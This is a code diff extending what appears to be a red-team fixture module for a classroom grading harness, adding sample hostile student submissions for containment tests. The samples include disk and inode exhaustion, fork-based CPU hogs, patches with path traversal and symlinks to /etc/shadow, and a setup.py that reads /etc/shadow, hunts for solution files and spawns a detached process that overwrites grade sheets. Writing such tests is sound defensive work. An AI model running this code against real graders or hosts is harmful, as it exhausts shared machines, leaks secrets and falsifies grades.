@@ -4,10 +4,18 @@ compression.py, which runs when the student side imports it) on the untouched ki
 solution, with what its honest grade must say. tests/test_classroom_red_team.py grades them
 beside the solution and an honest failing kit: each gets its honest grade with its reason,
 and the other kits' rows are byte for byte those of grading them alone.
-"""
-from dataclasses import dataclass
 
-from .kit import init, install_solution
+KIT_TRICKS go further than compression.py: the kit's own files (its course patch as a link,
+a FIFO, a sparse file, a patch naming paths outside Horovod, a patch whose setup.py runs
+code, a link where the grader writes its logs, a trainer that forks busy processes);
+tests/test_classroom_containment.py grades them.
+"""
+import difflib
+import os
+from dataclasses import dataclass
+from pathlib import Path
+
+from .kit import COURSE_PATCH, ROOT, SOLUTION_FILES, init, install_solution
 
 
 @dataclass(frozen=True)
@@ -130,6 +138,52 @@ _hoard = []
 while True:
     _hoard.append(bytearray(1 << 26))           # 64 MiB at a time, touched
 ''', "memory"),
+    Trick("read_the_venvs_horovod", "untouched", '''
+import glob, sys
+_answer = []                                    # the course patch, as the grader's venv was built
+for _path in (glob.glob(sys.prefix + "/lib/python3*/site-packages/horovod/torch/compression.py")
+              + glob.glob(sys.prefix + "/lib/python3*/site-packages/horovod/torch/__pycache__/*")):
+    try:
+        with open(_path, "rb") as _f:
+            if b"bit8" in _f.read():
+                _answer.append(_path)
+    except OSError:
+        pass
+if _answer:
+    def encode_e4m3(x):
+        raise RuntimeError(f"read the answer: {_answer[0]}")
+''', "not written yet"),
+    Trick("fill_the_disk", "untouched", '''
+import errno
+_block, _i = b"x" * (1 << 20), 0
+while True:                                     # files under any size limit, until refused
+    try:
+        with open(f"/tmp/fill{_i}", "wb") as _f:
+            for _ in range(32):
+                _f.write(_block)
+    except OSError as _err:
+        if _err.errno != errno.EFBIG:
+            break
+    _i += 1
+''', "filled the disk space"),
+    Trick("fill_the_file_count", "untouched", '''
+import os
+os.makedirs("/kit/many", exist_ok=True)
+try:
+    for _i in range(1 << 22):
+        open(f"/kit/many/{_i}", "w").close()
+except OSError:
+    pass
+''', "filled the disk space"),
+    Trick("hog_the_cpu", "untouched", '''
+import os, time
+for _ in range(100):                            # busy processes of their own sessions
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            pass
+time.sleep(10 ** 6)
+''', "did not finish in time"),
 ]
 BY_NAME = {t.name: t for t in TRICKS}
 
@@ -142,3 +196,120 @@ def plant(folder, trick):
     path = folder / "compression.py"
     path.write_text(path.read_text() + "\n" + trick.code)
     return folder
+
+
+# --- beyond compression.py: the kit's own files ---------------------------------------------
+
+@dataclass(frozen=True)
+class KitTrick:
+    name: str
+    base: str           # "untouched" or "solution"
+    how: str            # what plant_kit does: "patch_text", "patch_link", "patch_fifo",
+                        # "patch_sparse", "setup_py", "logs_link", "train_hog"
+    text: str = ""      # the patch's text (patch_text), or code (setup_py, train_hog)
+    check: str = ""     # the check whose reason holds `words`
+    words: str = ""
+
+
+# a Python file of horovod/ by its name's start and end, outside by its middle: a route that
+# takes such a name writes (or removes) a file outside the tree
+_OUTSIDE = ("--- a/horovod/torch/../../../../../../var/tmp/hostile-patched.py\n"
+            "+++ b/horovod/torch/../../../../../../var/tmp/hostile-patched.py\n@@ -1 +1 @@\n-x\n+y\n")
+_ABSOLUTE = "--- /etc/shadow\n+++ /etc/shadow\n@@ -1 +1 @@\n-root\n+hostile\n"
+_GIT_LINK = ("diff --git a/horovod/torch/leak.py b/horovod/torch/leak.py\nnew file mode 120000\n"
+             "index 0000000..1111111\n--- /dev/null\n+++ b/horovod/torch/leak.py\n@@ -0,0 +1 @@\n"
+             "+../../../../../../etc/shadow\n\\ No newline at end of file\n")
+# Horovod's setup.py, run by its build: what a student's patch makes it do first
+_SETUP_PY = '''import glob as _glob, os as _os, sys as _sys, time as _time
+_found, _answer = [], "solution" + "_files"     # (spelt apart: the route check reads added lines)
+for _pattern in (f"/work/*/labs/classroom/{_answer}/*", f"/tmp/*/labs/classroom/{_answer}/*",
+                 f"/root/*/labs/classroom/{_answer}/*", "/var/tmp/*/solution*"):
+    _found += _glob.glob(_pattern)
+try:
+    open("/etc/shadow").read()
+    _shadow = "read"
+except OSError as _err:
+    _shadow = type(_err).__name__
+for _path in ("/var/tmp/hostile-setup-ran", "/work/hostile-setup-ran", "/root/hostile-setup-ran"):
+    try:
+        open(_path, "w").write("ran")
+    except OSError:
+        pass
+if _os.fork() == 0:                             # detached: would rewrite a sheet it could reach
+    _os.setsid()
+    if _os.fork() == 0:
+        _end = _time.time() + 600
+        while _time.time() < _end:
+            for _sheet in _glob.glob("/tmp/*/grades.md") + _glob.glob("/work/*/grades.md"):
+                try:
+                    open(_sheet, "w").write("| everyone | 4/4 |\\n")
+                except OSError:
+                    pass
+            _time.sleep(0.2)
+    _os._exit(0)
+print(f"error: hostile setup.py uid={_os.getuid()} shadow={_shadow} found={len(_found)}",
+      file=_sys.stderr, flush=True)
+_sys.exit(1)
+'''
+_TRAIN_HOG = '''import os as _os, time as _time
+for _ in range(50):                             # on each rank: 100 busy processes in all
+    if _os.fork() == 0:
+        _os.setsid()
+        while True:
+            pass
+_time.sleep(90)
+raise SystemExit("hogged the cores")
+'''
+
+KIT_TRICKS = [
+    KitTrick("patch_outside_the_tree", "solution", "patch_text", _OUTSIDE, "intree.patch", "`..`"),
+    KitTrick("patch_absolute_path", "solution", "patch_text", _ABSOLUTE, "intree.patch", "absolute path"),
+    KitTrick("patch_makes_a_link", "solution", "patch_text", _GIT_LINK, "intree.patch", "symbolic link"),
+    KitTrick("patch_is_the_solutions", "untouched", "patch_link", check="intree.patch",
+             words="symbolic link"),
+    KitTrick("patch_is_a_fifo", "solution", "patch_fifo", check="intree.patch", words="a FIFO"),
+    KitTrick("patch_is_sparse", "solution", "patch_sparse", check="intree.patch", words="larger than"),
+    KitTrick("patch_runs_setup_py", "solution", "setup_py", _SETUP_PY, "intree.build",
+             "hostile setup.py uid="),
+    KitTrick("logs_link_to_another_kit", "solution", "logs_link"),
+    KitTrick("hog_the_cores_beside", "untouched", "train_hog", _TRAIN_HOG, "trainer.np2.runs",
+             "hogged the cores"),
+]
+KIT_BY_NAME = {t.name: t for t in KIT_TRICKS}
+
+
+def plant_kit(folder, trick, sdist_setup_py=None, victim="solution"):
+    """A kit at `folder` with `trick` in its files. setup_py needs Horovod's pristine setup.py
+    (its text: the patch is a diff of it); logs_link points at the kit `victim` beside it."""
+    folder = init(folder)
+    if trick.base == "solution":
+        install_solution(folder)
+    patch = folder / "patches" / COURSE_PATCH
+    if trick.how == "patch_text":
+        patch.write_text(patch.read_text() + "\n" + trick.text)
+    elif trick.how == "patch_link":
+        patch.unlink()
+        patch.symlink_to(SOLUTION_FILES / COURSE_PATCH)
+    elif trick.how == "patch_fifo":
+        patch.unlink()
+        os.mkfifo(patch)
+    elif trick.how == "patch_sparse":
+        with open(patch, "r+b") as handle:
+            handle.truncate(40 << 30)
+    elif trick.how == "setup_py":
+        old = sdist_setup_py.splitlines(keepends=True)
+        new = trick.text.splitlines(keepends=True) + old
+        diff = "".join(difflib.unified_diff(old, new, "a/setup.py", "b/setup.py"))
+        patch.write_text(patch.read_text() + diff)
+    elif trick.how == "logs_link":
+        (folder / "runs").mkdir(exist_ok=True)
+        (folder / "runs" / "grader-np2").symlink_to(Path("..") / ".." / victim / "runs" / "np2")
+    elif trick.how == "train_hog":
+        train = folder / "train.py"
+        text = train.read_text()
+        train.write_text(text.replace("def main():", "def main():\n" + "".join(
+            "    " + line + "\n" for line in trick.text.splitlines()), 1))
+    return folder
+
+
+__all__ = ["TRICKS", "BY_NAME", "KIT_TRICKS", "KIT_BY_NAME", "plant", "plant_kit", "ROOT"]
